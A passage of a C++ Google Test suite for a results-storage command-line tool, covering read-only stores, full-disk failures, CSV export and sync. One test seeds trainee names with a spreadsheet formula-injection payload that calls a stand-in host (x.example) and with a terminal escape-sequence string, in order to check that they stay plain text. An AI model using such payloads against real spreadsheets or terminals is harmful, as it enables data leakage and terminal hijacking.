    ASSERT_TRUE(QDir().mkpath(dir.filePath(QStringLiteral("config/palpate"))));
    {
        QFile conf(dir.filePath(QStringLiteral("config/palpate/palpate.conf")));
        ASSERT_TRUE(conf.open(QIODevice::WriteOnly));
        conf.write(QStringLiteral("[General]\ndataFolder=%1\n").arg(chosen).toUtf8());
    }
    const QString store = dir.filePath(QStringLiteral("class room data/results.sqlite"));
    ASSERT_TRUE(QFile::copy(workstation(dir, QStringLiteral("ws"), QStringLiteral("Ada"), 2), store));
    const auto listDefault = [&] {
        test::ForkedProcess p;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(QStringLiteral("XDG_CONFIG_HOME"), dir.filePath(QStringLiteral("config")));
        env.insert(QStringLiteral("XDG_DATA_HOME"), dir.filePath(QStringLiteral("data")));
        p.setProcessEnvironment(env);
        p.start(QStringLiteral(PALPATE_CLI_PATH),
                {QStringLiteral("results"), QStringLiteral("list"), QStringLiteral("--json")});
        if (!p.waitForFinished(60000)) p.kill();
        return std::make_tuple(p.exitCode(), QJsonDocument::fromJson(p.readAllStandardOutput()).object(),
                               QString::fromLocal8Bit(p.readAllStandardError()));
    };
    auto [code, json, err] = listDefault();
    EXPECT_EQ(code, 0) << err.toStdString();
    EXPECT_EQ(json.value(QStringLiteral("database")).toString(), store);
    EXPECT_EQ(json.value(QStringLiteral("results")).toArray().size(), 2);

    // The preferences file a FIFO: not read, named; the default folder (empty here) is used.
    ASSERT_TRUE(QFile::remove(dir.filePath(QStringLiteral("config/palpate/palpate.conf"))));
    ASSERT_EQ(::mkfifo(qPrintable(dir.filePath(QStringLiteral("config/palpate/palpate.conf"))), 0600), 0);
    std::tie(code, json, err) = listDefault();
    EXPECT_EQ(code, 1);
    EXPECT_TRUE(err.contains(QStringLiteral("a FIFO"))) << err.toStdString();
    EXPECT_TRUE(err.contains(dir.filePath(QStringLiteral("data/palpate/results.sqlite")))) << err.toStdString();
}

// A store this user may not write (a colleague's file, a copy on read-only media) can still be
// listed and exported: it is opened to be read. Run as a user without write rights (as root the
// test drops to nobody, as root may write anything), in a folder that is writable and one that
// is not (where SQLite cannot even keep the write-ahead log's index).
TEST(ResultsCli, AReadOnlyStoreCanBeListed) {
    const bool root = ::geteuid() == 0;
    const QString setpriv = QStandardPaths::findExecutable(QStringLiteral("setpriv"));
    if (root && setpriv.isEmpty()) GTEST_SKIP() << "setpriv (util-linux) is needed to drop root's rights";
    QTemporaryDir work;
    // Under /tmp itself when root: the test's own TMPDIR may be closed to nobody.
    QTemporaryDir shared(root ? QStringLiteral("/tmp/palpate-readonly-XXXXXX")
                              : work.filePath(QStringLiteral("ro-XXXXXX")));
    ASSERT_TRUE(shared.isValid());
    const QString folder = shared.path();
    const QString store = folder + QStringLiteral("/results.sqlite");
    ASSERT_TRUE(QFile::copy(workstation(work, QStringLiteral("ws"), QStringLiteral("Ada"), 2), store));
    const auto listAsReader = [&] {
        QStringList arguments{QStringLiteral("results"), QStringLiteral("list"), QStringLiteral("--json"),
                              QStringLiteral("--db"), store};
        QString program = QStringLiteral(PALPATE_CLI_PATH);
        if (root) {
            arguments = QStringList{QStringLiteral("--reuid=65534"), QStringLiteral("--regid=65534"),
                                    QStringLiteral("--clear-groups"), program} +
                        arguments;
            program = setpriv;
        }
        test::ForkedProcess p;
        p.start(program, arguments);
        if (!p.waitForFinished(60000)) p.kill();
        return std::make_tuple(p.exitCode(), QJsonDocument::fromJson(p.readAllStandardOutput()).object(),
                               QString::fromLocal8Bit(p.readAllStandardError()));
    };
    ASSERT_EQ(::chmod(qPrintable(store), 0444), 0);
    for (const mode_t folderMode : {mode_t(01777), mode_t(0555)}) {
        ASSERT_EQ(::chmod(qPrintable(folder), folderMode), 0);
        // The CLI binary must be reachable by that user too (the build folder usually is).
        const auto [code, json, err] = listAsReader();
        EXPECT_EQ(code, 0) << "folder mode " << std::oct << folderMode << ": " << err.toStdString();
        EXPECT_EQ(json.value(QStringLiteral("results")).toArray().size(), 2) << err.toStdString();
    }
    ASSERT_EQ(::chmod(qPrintable(folder), 0700), 0);
    // Nothing was written beside it (no journal left by the readers), and it is unchanged.
    EXPECT_FALSE(QFileInfo::exists(store + QStringLiteral("-journal")));
    ResultsDatabase check;
    EXPECT_TRUE(check.open(store));
    EXPECT_EQ(check.allResults().size(), 2u);
}

// A disk that fills up while a result is stored (here a file size limit, RLIMIT_FSIZE, at one
// size after another) is a failure naming the store, never a success without the row: every run
// either stores its result (exit 0, the row is there) or says where it could not (exit 1).
TEST(ResultsCli, AFullDiskIsAFailureNamingTheStoreNeverASilentSuccess) {
    QTemporaryDir dir;
    const QString source = QStringLiteral(PALPATE_SOURCE_DIR);
    const QString recording = dir.filePath(QStringLiteral("press.palprec"));
    ASSERT_EQ(
        cli({QStringLiteral("run"), QStringLiteral("--exercise"),
             source + QStringLiteral("/resources/exercises/press_targets.json"), QStringLiteral("--device"),
             QStringLiteral("sim:path:") + source + QStringLiteral("/resources/exercises/press_targets.good.path"),
             QStringLiteral("--seconds"), QStringLiteral("0.3"), QStringLiteral("--record"), recording,
             QStringLiteral("--no-fifo")})
            .first,
        0);
    const QString store = dir.filePath(QStringLiteral("results.sqlite"));
    ASSERT_EQ(cli({QStringLiteral("score"), QStringLiteral("--recording"), recording, QStringLiteral("--trainee"),
                   QStringLiteral("First"), QStringLiteral("--db"), store})
                  .first,
              0);
    int stored = 0, refused = 0;
    for (int blocks = 8; blocks <= 160; blocks += 8) {  // 512-byte blocks: 4 to 80 KiB
        const QString trainee = QStringLiteral("T%1").arg(blocks);
        test::ForkedProcess p;
        p.start(QStringLiteral("/bin/sh"),
                {QStringLiteral("-c"), QStringLiteral("ulimit -f %1; exec \"$0\" \"$@\"").arg(blocks),
                 QStringLiteral(PALPATE_CLI_PATH), QStringLiteral("score"), QStringLiteral("--recording"), recording,
                 QStringLiteral("--trainee"), trainee, QStringLiteral("--db"), store});
        ASSERT_TRUE(p.waitForFinished(60000));
        const QString err = QString::fromLocal8Bit(p.readAllStandardError());
        ResultsDatabase db;
        ASSERT_TRUE(db.open(store));
        bool there = false;
        for (const ResultRecord& r : db.allResults()) there |= r.traineeName == trainee;
        if (p.exitCode() == 0) {
            EXPECT_TRUE(there) << "exit 0 without the row, at " << blocks << " blocks";
            ++stored;
        } else {
            EXPECT_EQ(p.exitCode(), 1) << err.toStdString();
            EXPECT_TRUE(err.contains(store)) << err.toStdString();
            EXPECT_FALSE(err.contains(QStringLiteral("not a results database"))) << err.toStdString();
            ++refused;
        }
    }
    std::printf("[ figures  ] under a file size limit of 4 to 80 KiB: %d stored, %d refused naming the store\n", stored,
                refused);
    EXPECT_GT(refused, 0) << "the limit never bit: the test proves nothing";
}

// A trainee's name is data wherever it goes: a spreadsheet formula stays text in every CSV (the
// export and the class's), and an escape sequence is shown on the terminal, not obeyed.
TEST(ResultsCli, NamesThatLookLikeFormulasOrTerminalCommandsStayText) {
    QTemporaryDir dir;
    const QString formula = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")");
    const QString escape = QStringLiteral("Eve\x1b]0;pwned\x07\x1b[2J");
    const QString path = workstation(dir, QStringLiteral("ws"), formula, 1);
    {
        ResultsDatabase db;
        QString error;
        ASSERT_TRUE(db.open(path, &error)) << error.toStdString();
        const qint64 eve = db.addTrainee(escape, &error);
        ASSERT_GE(db.addResult(eve, report(70.0), QStringLiteral("@SUM(1+1)"), QStringLiteral("/e.json"),
                               QDateTime::currentDateTimeUtc(), 10.0, QString(), &error),
                  0)
            << error.toStdString();
    }
    const QString csv = dir.filePath(QStringLiteral("out.csv")), classCsv = dir.filePath(QStringLiteral("class.csv"));
    ASSERT_EQ(cli({QStringLiteral("results"), QStringLiteral("export"), QStringLiteral("--db"), path,
                   QStringLiteral("--csv"), csv})
                  .first,
              0);
    ASSERT_EQ(cli({QStringLiteral("results"), QStringLiteral("class"), QStringLiteral("--db"), path,
                   QStringLiteral("--csv"), classCsv})
                  .first,
              0);
    for (const QString& file : {csv, classCsv}) {
        QFile f(file);
        ASSERT_TRUE(f.open(QIODevice::ReadOnly));
        const QStringList lines = QString::fromUtf8(f.readAll()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
        ASSERT_GE(lines.size(), 2) << file.toStdString();
        bool sawName = false;
        for (const QString& line : lines.mid(1)) {
            // No cell begins with a formula character: each is quoted with an apostrophe first.
            for (const QString& cell : line.split(QLatin1Char(',')))
                EXPECT_FALSE(cell.startsWith(QLatin1Char('=')) || cell.startsWith(QLatin1Char('@')) ||
                             cell.startsWith(QLatin1Char('+')))
                    << file.toStdString() << ": " << line.toStdString();
            sawName |= line.contains(QStringLiteral("\"'=HYPERLINK("));
        }
        EXPECT_TRUE(sawName) << file.toStdString();
    }
    const auto [listCode,
                listOut] = cli({QStringLiteral("results"), QStringLiteral("list"), QStringLiteral("--db"), path});
    ASSERT_EQ(listCode, 0);
    EXPECT_FALSE(listOut.contains('\x1b')) << listOut.toStdString();
    EXPECT_FALSE(listOut.contains('\x07')) << listOut.toStdString();
    EXPECT_TRUE(listOut.contains("Eve\\x1B]0;pwned\\x07")) << listOut.toStdString();
    const auto [traineeCode,
                traineeOut] = cli({QStringLiteral("trainee"), QStringLiteral("list"), QStringLiteral("--db"), path});
    ASSERT_EQ(traineeCode, 0);
    EXPECT_FALSE(traineeOut.contains('\x1b')) << traineeOut.toStdString();
    EXPECT_TRUE(traineeOut.contains("Eve\\x1B")) << traineeOut.toStdString();
}

TEST(ResultsCli, ListExportAndSyncAsUsersRunThem) {
    QTemporaryDir dir;
    const QString path = workstation(dir, QStringLiteral("ws"), QStringLiteral("Di"), 3);
    const auto [listCode, listOut] = cli({QStringLiteral("results"), QStringLiteral("list"), QStringLiteral("--db"), path,
                                          QStringLiteral("--json")});
    ASSERT_EQ(listCode, 0);
    const QJsonArray results = QJsonDocument::fromJson(listOut).object().value(QStringLiteral("results")).toArray();
    ASSERT_EQ(results.size(), 3);
    for (const auto& r : results)
        for (const char* key : {"trainee", "exercise", "score", "time", "uid", "synced"})
            EXPECT_TRUE(r.toObject().contains(QLatin1String(key))) << key;
    EXPECT_EQ(results[0].toObject().value(QStringLiteral("trainee")).toString(), QStringLiteral("Di"));
    EXPECT_FALSE(results[0].toObject().value(QStringLiteral("synced")).toBool());

    const QString csv = dir.filePath(QStringLiteral("out.csv"));
    EXPECT_EQ(cli({QStringLiteral("results"), QStringLiteral("export"), QStringLiteral("--db"), path, QStringLiteral("--csv"), csv})
                  .first,
              0);
    QFile file(csv);
    ASSERT_TRUE(file.open(QIODevice::ReadOnly));
    EXPECT_EQ(file.readAll().count('\n'), 4);  // header and three rows
    // The database is never the output.
    EXPECT_EQ(cli({QStringLiteral("results"), QStringLiteral("export"), QStringLiteral("--db"), path, QStringLiteral("--csv"), path})
                  .first,
              2);

    // No server: exit 1, everything still waiting.
    const auto [awayCode, awayOut] = cli({QStringLiteral("results"), QStringLiteral("sync"), QStringLiteral("--db"),
                                          QStringLiteral("postgresql://localhost:1/class"), QStringLiteral("--local"), path,
                                          QStringLiteral("--json")});
    EXPECT_EQ(awayCode, 1);
    EXPECT_EQ(QJsonDocument::fromJson(awayOut).object().value(QStringLiteral("waiting")).toInt(), 3);
    EXPECT_EQ(cli({QStringLiteral("results"), QStringLiteral("sync"), QStringLiteral("--db"), path}).first, 2);  // not a server

    if (serverUrl().isEmpty()) return;  // the rest needs the server
    clearServer();
    const auto [syncCode, syncOut] = cli({QStringLiteral("results"), QStringLiteral("sync"), QStringLiteral("--db"), serverUrl(),
                                          QStringLiteral("--local"), path, QStringLiteral("--json")});
    EXPECT_EQ(syncCode, 0) << syncOut.toStdString();
    EXPECT_EQ(QJsonDocument::fromJson(syncOut).object().value(QStringLiteral("sent")).toInt(), 3);
    const auto [serverCode, serverOut] = cli({QStringLiteral("results"), QStringLiteral("list"), QStringLiteral("--db"),
                                              serverUrl(), QStringLiteral("--json")});
    EXPECT_EQ(serverCode, 0);
    EXPECT_EQ(QJsonDocument::fromJson(serverOut).object().value(QStringLiteral("results")).toArray().size(), 3);
}

}  // namespace

int main(int argc, char** argv) {
    QCoreApplication app(argc, argv);
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
